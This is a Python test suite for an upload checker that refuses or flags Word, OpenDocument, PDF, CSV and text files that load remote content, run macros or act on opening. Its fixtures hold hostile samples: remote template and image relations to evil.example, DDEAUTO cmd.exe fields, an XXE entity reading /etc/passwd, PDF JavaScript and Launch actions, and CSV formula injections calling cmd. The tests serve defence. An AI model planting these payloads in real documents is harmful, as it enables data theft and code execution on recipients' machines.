"""Documents that would do something to the editor who opens them, and honest ones that only look like it."""

import zipfile
import zlib
from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feedback.budget import Budget
from feedback.packages import MAX_ENTRIES
from feedback.refusals import Refused
from feedback.uploads import CAUTIONS, judge
from tests.feedback import samples


def refusal(name, body, budget=None):
    with pytest.raises(Refused) as refused:
        judge(name, "", body, budget)
    return str(refused.value)


def caution(name, body):
    accepted = judge(name, "", body)
    assert accepted.body == body
    return accepted.caution


# --- word: what is loaded, what is carried ------------------------------------

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PURL = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def relation(kind, target, mode='TargetMode="External"', *, base=OFFICE):
    return f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" {mode}/></Relationships>'


def docx_with(part, body):
    return samples.make_docx({part: body})


@pytest.mark.parametrize(
    "rels",
    [
        relation("attachedTemplate", "http://evil.example/t.dotm"),
        relation("attachedTemplate", "https://evil.example/t.dotm", base=PURL),
        relation("attachedTemplate", r"\\evil.example\share\t.dotm"),
        relation("attachedTemplate", "file://evil.example/share/t.dotm"),
        relation("attachedTemplate", "file:////evil.example/share/t.dotm"),
        relation("attachedTemplate", "file:///%5C%5Cevil.example/t.dotm"),
        relation("attachedTemplate", "mhtml:http://evil.example/t!x"),
        relation("image", "http://evil.example/pixel.png"),
        relation("image", "file:///C:/pixel.png"),
        relation("oleObject", "http://evil.example/x.html!"),
        relation("frame", "http://evil.example/"),
        relation("subDocument", "other.docx"),
        relation("mailMergeSource", "file:///C:/list.mdb"),
        relation("image", "http://evil.example/p.png", "TargetMode='external'"),
        relation("image", "http://evil.example/p.png", 'TargetMode="&#69;xternal"'),
        relation("image", "http://evil.example/p.png", 'TargetMode="\n External "'),
        relation("image", "http://evil.example/p.png", ""),
        relation("image", "&#104;ttp://evil.example/p.png", ""),
        relation("anythingElse", "//evil.example/x", ""),
        "<!--" + "x" * 200_000 + "-->" + relation("image", "http://evil.example/p.png"),
    ],
)
@pytest.mark.parametrize("part", ["word/_rels/settings.xml.rels", "word/x.XML", "customXml/odd.bin"])
def test_what_loads_something_from_elsewhere_is_refused(rels, part):
    for body in (rels, rels.encode("utf-16"), " " * 70_000 + rels):
        sentence = refusal("letter.docx", docx_with(part, body))
        assert "“letter.docx” loads something from elsewhere when it is opened" in sentence or "carries" in sentence
        assert "or as PDF" in sentence


@pytest.mark.parametrize(
    "rels",
    [
        relation("hyperlink", "http://example.org/"),
        relation("hyperlink", "mailto:ana@example.org", base=PURL),
        relation("attachedTemplate", "file:///C:\\Users\\Ana\\Templates\\Letter.dotx"),
        relation("attachedTemplate", "C:\\Users\\Ana\\Templates\\Letter.dotx"),
        relation("attachedTemplate", "Letter.dotx"),
        relation("image", "media/image1.png", ""),
        relation("image", "/word/media/image1.png", 'TargetMode="Internal"'),
        relation("package", "embeddings/table.xlsx", ""),
        relation("footnotes", "footnotes.xml", ""),
    ],
)
def test_what_is_ordinary_in_a_letter_passes(rels):
    assert caution("letter.docx", docx_with("word/_rels/document.xml.rels", rels)) == ""


@pytest.mark.parametrize(
    ("part", "body"),
    [
        ("word/embeddings/oleObject1.bin", samples.OLE),
        ("word/embeddings/x.bin", b"MZ\x90\x00\x03" + bytes(100)),
        ("word/media/image1.png", b"MZ\x90\x00\x03" + bytes(100)),
        ("word/media/x", b"\x7fELF\x02"),
        ("word/chunk.rtf", b"{\\rtf1\\object"),
        ("word/embeddings/x.xlsm", samples.make_zip({"xl/VbaProject.bin": "x"}, stored={"xl/VbaProject.bin"})),
        ("word/_rels/document.xml.rels", relation("oleObject", "embeddings/o.bin", "")),
        ("word/_rels/document.xml.rels", relation("control", "activeX/activeX1.xml", "")),
        ("word/_rels/document.xml.rels", relation("aFChunk", "chunk.mht", "")),
        ("word/_rels/document.xml.rels", relation("vbaProject", "harmless.bin", "", base=OFFICE.upper())),
        ("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("word/f.xml", "<a><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></a>"),
        ("word/f.xml", "<a><w:instrText>DD</w:instrText><b/><w:instrText>EAUTO c:\\cmd.exe</w:instrText></a>"),
        ("word/f.xml", "<a><w:instrText>PAGE</w:instrText><w:fldChar/><x:instrText>dde c:\\cmd</x:instrText></a>"),
        ("word/f.xml", '<w:fldSimple w:instr="DDEAUTO c:\\cmd.exe"/>'),
    ],
)
def test_programs_and_objects_inside_are_refused(part, body):
    assert "“letter.docx” carries a program" in refusal("letter.docx", docx_with(part, body))


@pytest.mark.parametrize(
    "body",
    [
        '<a><w:instrText>INCLUDEPICTURE "http://evil.example/p.png" \\d</w:instrText></a>',
        '<w:fldSimple w:instr=" LINK Word.Document.8 http://evil.example/x.docx \\a"/>',
        '<v:imagedata src="http://evil.example/p.png"/>',
        '<v:fill o:href="\\\\evil.example\\p.png"/>',
        '<svg><image xlink:href="https://evil.example/p.png"/></svg>',
    ],
)
def test_fields_and_drawings_that_load_something_are_refused(body):
    assert "loads something from elsewhere" in refusal("letter.docx", docx_with("word/document2.xml", body))


@pytest.mark.parametrize(
    "body",
    [
        '<a><w:instrText> HYPERLINK "http://example.org/dde/link" </w:instrText><w:t>DDE and DDT were found.</w:t></a>',
        '<a><w:instrText> INCLUDEPICTURE "http://example.org/p.png" \\* MERGEFORMATINET </w:instrText></a>',
        '<v:shape href="http://example.org/"><v:imagedata r:id="r1" o:title="a"/></v:shape>',
        '<svg><image xlink:href="data:image/png;base64,AAAA"/></svg>',
        "<w:t>What is vbaProject.bin?</w:t>",
        "<w:t>We never open http://example.org or file://server or macros by ourselves.</w:t>",
    ],
)
def test_words_about_it_and_links_to_be_clicked_pass(body):
    assert caution("letter.docx", docx_with("word/document2.xml", body)) == ""


DOCTYPE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'


@pytest.mark.parametrize(
    "part", ["word/x.XML", "META-INF/x.xml", "META-INF/manifest.xml", "docProps/app.xml", "a.bin", "word/x.ReLs"]
)
@pytest.mark.parametrize("make", [samples.make_docx, samples.make_odt], ids=["docx", "odt"])
def test_a_document_type_is_refused_wherever_it_stands(part, make):
    for xml in (
        DOCTYPE,
        "\n" * 70_000 + DOCTYPE,
        '<?xml version="1.0"?>' + " " * 200_000 + DOCTYPE,
        "<!--" + "-x" * 100_000 + "-->" + DOCTYPE,
    ):
        for body in (xml.encode(), b"\xef\xbb\xbf" + xml.encode(), xml.encode("utf-16"), xml.encode("utf-16-be")):
            name = "a.docx" if make is samples.make_docx else "a.odt"
            package = samples.make_zip({**entries_of(make()), part: body})
            assert "“a." in refusal(name, package)


def entries_of(package):
    with zipfile.ZipFile(BytesIO(package)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


@pytest.mark.parametrize(
    "body",
    [
        "<a>",
        "<a></b>",
        "no xml",
        "<!ENTITY a 'b'><a/>",
        b"+ADw-+ACE-DOCTYPE a+AD4-",
        '<?xml version="1.0" encoding="utf-7"?><a/>',
        "<a b='1' b='2'/>",
    ],
)
def test_xml_that_is_none_is_refused(body):
    assert "“a.docx” is damaged" in refusal("a.docx", docx_with("word/a.xml", body))


def test_two_spellings_of_one_name_are_refused():
    assert "not the kind" in refusal("a.docx", docx_with("Word/Document.xml", "<a/>"))


# --- opendocument -------------------------------------------------------------


@pytest.mark.parametrize(
    "element",
    [
        '<draw:image xlink:href="http://evil.example/p.png"/>',
        '<draw:image xlink:href="&#104;ttp://evil.example/p.png"/>',
        '<draw:image xlink:href="//evil.example/p.png"/>',
        '<draw:image xlink:href="\\\\evil.example\\p.png"/>',
        '<x:image y:href="file://evil.example/p.png"/>',
        '<text:section-source xlink:href="https://evil.example/t.odt"/>',
        '<draw:floating-frame xlink:href="http://evil.example/"/>',
        '<draw:plugin xlink:href="http://evil.example/"/>',
        '<meta:auto-reload xlink:href="http://evil.example/" meta:delay="PT1S"/>',
        '<meta:template xlink:href="http://evil.example/t.ott"/>',
        '<style:background-image xlink:href="http://evil.example/"/>',
        '<svg:font-face-uri xlink:href="http://evil.example/f.ttf"/>',
        '<xforms:instance src="http://evil.example/"/>',
        "<office:dde-source/>",
        "<text:dde-connection-decl/>",
    ],
)
def test_an_opendocument_that_loads_something_is_refused(element):
    for part in ("content2.xml", "styles.xml", "Object 1/content.xml"):
        body = samples.make_odt({part: f'<a b="{"x" * 70_000}">{element}</a>'})
        assert "“letter.odt” loads something from elsewhere" in refusal("letter.odt", body)


@pytest.mark.parametrize(
    "element",
    [
        '<script:event-listener script:language="ooo:script" xlink:href="x"/>',
        '<office:scripts><office:script script:language="Basic"/></office:scripts>',
        '<text:script script:language="JavaScript">x</text:script>',
        '<text:a xlink:href="macro:///Standard.Module1.Main"/>',
        '<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>',
        '<form:button xlink:href=".uno:ExportToPDF"/>',
    ],
)
def test_an_opendocument_that_runs_something_is_refused(element):
    assert "contains macros" in refusal("letter.odt", samples.make_odt({"content2.xml": f"<a>{element}</a>"}))


@pytest.mark.parametrize("name", ["Basic/Standard/M.xml", "BASIC/x", "Scripts/python/a.py", "scripts/x"])
def test_an_opendocument_with_a_folder_of_macros_is_refused(name):
    assert "contains macros" in refusal("letter.odt", samples.make_odt({name: "x"}))


def test_an_opendocument_with_an_object_inside_is_refused():
    assert "carries a program" in refusal("letter.odt", samples.make_odt({"Object 1": samples.OLE}))


@pytest.mark.parametrize(
    "element",
    [
        '<text:a xlink:href="http://example.org/">x</text:a>',
        '<draw:image xlink:href="Pictures/1.png" xlink:actuate="onLoad"/>',
        '<draw:object xlink:href="./Object 1"/>',
        '<form:form xlink:href="" />',
        "<office:scripts/>",
        "<office:event-listeners/>",
        '<meta:template xlink:href="/C:/Users/Ana/Letter.ott" xlink:actuate="onRequest"/>',
        '<accel:item xlink:href=".uno:Save"/>',
    ],
)
def test_what_is_ordinary_in_an_opendocument_passes(element):
    assert caution("letter.odt", samples.make_odt({"content2.xml": f"<a>{element}</a>"})) == ""


# --- what a package may claim -------------------------------------------------


def test_a_list_of_very_many_entries_is_refused_unread(monkeypatch):
    """Only as many entries as may be are ever listed."""
    made = []
    original = zipfile.ZipInfo.__init__
    body = samples.make_docx({f"{n}/": "" for n in range(20_000)})
    monkeypatch.setattr(zipfile.ZipInfo, "__init__", lambda self, *given: (made.append(1), original(self, *given))[1])
    assert "not the kind" in refusal("a.docx", body)
    assert len(made) <= MAX_ENTRIES


def test_what_entries_claim_together_is_taken_from_the_budget_of_the_post(monkeypatch):
    body = samples.make_docx({"word/media/a.bmp": bytes(9 * 1024**2)})
    read = []
    original = zipfile.ZipExtFile.read
    monkeypatch.setattr(
        zipfile.ZipExtFile, "read", lambda self, n=-1: (read.append(piece := original(self, n)), piece)[1]
    )
    budget = Budget(inflated_bytes=20 * 1024**2)
    for _twice in range(2):
        assert judge("a.docx", "", body, budget)
    assert "unpacks" in refusal("a.docx", body, budget)
    assert sum(map(len, read)) < 20 * 1024**2


def test_elements_of_all_parts_are_taken_from_one_budget():
    body = samples.make_docx({f"word/{n}.xml": "<a>" + "<b/>" * 400 + "</a>" for n in range(3)})
    assert judge("a.docx", "", body, Budget(elements=1_300))
    assert "too intricate" in refusal("a.docx", body, Budget(elements=1_000))
    bomb = samples.make_docx({"word/a.xml": "<a>" + "<b/>" * 600_000 + "</a>"})
    assert "too intricate" in refusal("a.docx", bomb)


# --- pdf ----------------------------------------------------------------------


def a_pdf(*objects, catalog=b""):
    numbered = b"".join(b"%d 0 obj\n%b\nendobj\n" % (n, body) for n, body in enumerate(objects, 5))
    return samples.PDF.replace(b"/Type/Catalog", b"/Type/Catalog" + catalog).replace(b"trailer", numbered + b"trailer")


def object_stream(*objects, how=b"/Filter/FlateDecode", pack=zlib.compress, first=None):
    starts = [sum(len(body) + 1 for body in objects[:n]) for n in range(len(objects))]
    head = b" ".join(b"%d %d" % (n, start) for n, start in enumerate(starts, 20)) + b"\n"
    packed = pack(head + b"\n".join(objects))
    given = len(head) if first is None else first
    return b"<</Type/ObjStm/N %d/First %d%b/Length %d>>\nstream\n%b\nendstream" % (
        len(objects),
        given,
        how,
        len(packed),
        packed,
    )


ACTING = [
    b"<</S/JavaScript/JS(app.alert(1))>>",
    b"<</JS(app.alert(1))/S /JavaScript>>",
    b"<</S/J#61vaScript/JS 9 0 R>>",
    b"<</#53/#4a#61#76#61#53#63#72#69#70#74>>",
    b"<</S\x00\n/JavaScript>>",
    b"<</S %why\n/JavaScript>>",
    b"/JavaScript",
    b"<</S/Launch/F(cmd.exe)>>",
    b"<</S/SubmitForm/F(http://evil.example)>>",
    b"<</S/ImportData/F(x)>>",
    b"<</S/GoToE/T<<>>>>",
    b"<</Subtype/RichMedia>>",
    b"<</AA<</O<</S/URI/URI(http://evil.example)>>>>>>",
    b"<</A#41 20 0 R>>",
    b"<</AcroForm<</XFA[(template)9 0 R]>>>>",
    b"<</X#46A 9 0 R>>",
    b"<</Names<</JavaScript 9 0 R>>>>",
]


@pytest.mark.parametrize("action", ACTING)
def test_a_pdf_that_acts_by_itself_is_refused(action):
    for body in (
        a_pdf(action),
        a_pdf(object_stream(action)),
        a_pdf(object_stream(b"<<>>", action), b"<<>>"),
        a_pdf(object_stream(action, how=b"", pack=bytes)),
        a_pdf(object_stream(action).replace(b"/Type/ObjStm", b"/Type 9 0 R")),
        a_pdf(b"<</Filter/FlateDecode>>\nstream\r\n" + zlib.compress(action) + b"\nendstream"),
    ):
        sentence = refusal("letter.pdf", body)
        assert "“letter.pdf” does something by itself" in sentence
        assert "Print it to a new PDF" in sentence


OPENING = [b"/URI(http://evil.example)/S/URI", b"/S/GoToR/F(\\\\evil\\x)", b"/S/Thread", b"", b"/S/GoTo/Next 9 0 R"]


@pytest.mark.parametrize("action", OPENING)
def test_a_pdf_that_does_more_on_opening_than_show_a_place_is_refused(action):
    action = b"<<" + action + b">>"
    for body in (
        a_pdf(catalog=b"/OpenAction" + action),
        a_pdf(catalog=b"/Open#41ction " + action),
        a_pdf(action, catalog=b"/OpenAction 5 0 R"),
        a_pdf(object_stream(b"<<>>", action), catalog=b"/OpenAction 21 0 R"),
        a_pdf(b"<</S/GoTo>>", action, catalog=b"/OpenAction 5 0 R").replace(b"6 0 obj", b"5 0 obj"),
    ):
        assert "does something by itself" in refusal("letter.pdf", body)


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction[1 0 R/Fit]",
        b"/OpenAction 5 0 R",
        b"/OpenAction 21 0 R",
        b"/OpenAction<</S/GoTo/D[1 0 R/Fit]>>/Outlines<</S/P>>",
        b"/OpenAction<</S/Named/N/NextPage>>",
        b"/OpenAction(chapter.1)",
    ],
)
def test_a_pdf_that_opens_at_a_place_passes(catalog):
    goto = b"<</S/GoTo/D[1 0 R/XYZ null null null]>>"
    body = a_pdf(goto, object_stream(b"<</S/URI/URI(x)>>", goto), catalog=catalog)
    assert caution("letter.pdf", body) == ""


def test_links_about_scripts_are_links():
    body = a_pdf(b"<</A<</S/URI/URI(http://example.org/JavaScript/Launch/AA/XFA/)>>>>")
    assert caution("letter.pdf", body) == ""


@pytest.mark.parametrize(
    "stream",
    [
        object_stream(b"<<>>", how=b"/Filter/ASCIIHexDecode", pack=lambda body: body.hex().encode().upper() + b">"),
        object_stream(
            b"<<>>", how=b"/Filter[/FlateDecode/FlateDecode]", pack=lambda b: zlib.compress(zlib.compress(b))
        ),
        object_stream(b"<<>>", pack=lambda body: zlib.compress(body)[:-8]),
        object_stream(b"<<>>", how=b"/Filter/LZWDecode", pack=lambda body: b"\x80" + body),
    ],
)
def test_a_pdf_whose_objects_are_packed_in_odd_ways_is_refused(stream):
    assert "made in an unusual way" in refusal("letter.pdf", a_pdf(stream))


def test_what_object_streams_unpack_to_is_taken_from_the_budget():
    body = a_pdf(object_stream(b"<<" + b" " * 30 * 1024**2 + b">>"))
    budget = Budget()
    for _twice in range(2):
        assert judge("a.pdf", "", body, budget)
    assert "made in an unusual way" in refusal("a.pdf", body, budget)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (a_pdf(b"<</Type/EmbeddedFile>>"), "carries"),
        (a_pdf(catalog=b"/Names<</EmbeddedFiles 9 0 R>>"), "carries"),
        (a_pdf(object_stream(b"<</Subtype/File#41ttachment>>")), "carries"),
        (samples.PDF.replace(b"<</Root", b"<</Encrypt 9 0 R/Root"), "sealed"),
        (
            a_pdf(object_stream(b"x", pack=lambda _body: b"sealed")).replace(b"<</Root", b"<</Encrypt<</V 4>>/Root"),
            "sealed",
        ),
    ],
)
def test_a_pdf_that_asks_for_care_is_named(body, expected):
    assert caution("letter.pdf", body) == expected


# --- text and tables ----------------------------------------------------------


@pytest.mark.parametrize(
    "table",
    [
        "=1+1",
        "a;b\n=cmd|' /C calc'!A0;2",
        'a,"=HYPERLINK(""http://evil.example"")"',
        "a\t=1",
        "a, =1",
        "a,\t@SUM(1)",
        '"\t=1"',
        "a\r=1",
        "+cmd|' /C calc'!A0",
        "1;-2+3+cmd|' /C calc'!A0",
        "-SUM(A1:A2)",
        "+Sheet!A1",
        "＝1+1",
        "\ufeff=1",
        "a|=1",
        "x\n" * 100_000 + "=1",
    ],
)
def test_a_table_that_would_be_calculated_is_named(table):
    assert caution("table.csv", table.encode()) == "formulas"


@pytest.mark.parametrize(
    "table",
    [
        "country;change\nChad;-5\nMali;-1,234.5\n",
        '"a","-5.5%","+3"\n',
        "phone;+44 (0)20 7946 0000",
        "-;--;-1e5;-5 (estimate);- see note;+/-3",
        "a=b;c@d.org;x-y",
        "-5|-6|-7",
        "",
    ],
)
def test_signs_in_honest_figures_are_no_formulas(table):
    assert caution("table.csv", table.encode() or b" ") == ""


def test_a_text_is_no_table():
    assert caution("a.txt", b"=1+1\n") == ""


@pytest.mark.parametrize("markup", ["<script>alert(1)</script>", "<IFRAME src=x>", "<?php x", "<!doctype html>"])
def test_a_text_with_markup_anywhere_is_named(markup):
    assert caution("a.txt", b"a line\n" * 100_000 + markup.encode()) == "markup"


def test_every_caution_is_one_sentence_to_the_editor():
    for sentence in map(str, CAUTIONS.values()):
        assert sentence.startswith("This ")
        assert sentence.endswith(".")


@settings(deadline=None)
@given(st.sampled_from(["pdf", "csv", "txt"]), st.lists(st.sampled_from(
    [b"/OpenAction", b" 5 0 R ", b"5 0 obj", b"<<", b">>", b"stream\n", b"endstream", b"/ObjStm/First 4 ", b"/S", b"/GoTo",
     zlib.compress(b"1 0 <<"), b"%", b"\n", b"/AA", b"=", b",", b"-", b"|", b"(", b"a"])))  # fmt: skip
def test_whatever_is_put_together_ends_in_a_file_or_a_sentence(kind, pieces):
    body = b"".join(pieces) or b" "
    try:
        outcome = judge(f"a.{kind}", "", b"%PDF-1.4\n" + body + b"\n%%EOF\n" if kind == "pdf" else body).name
    except Refused as refused:
        outcome = str(refused)
    assert f"a.{kind}" in outcome
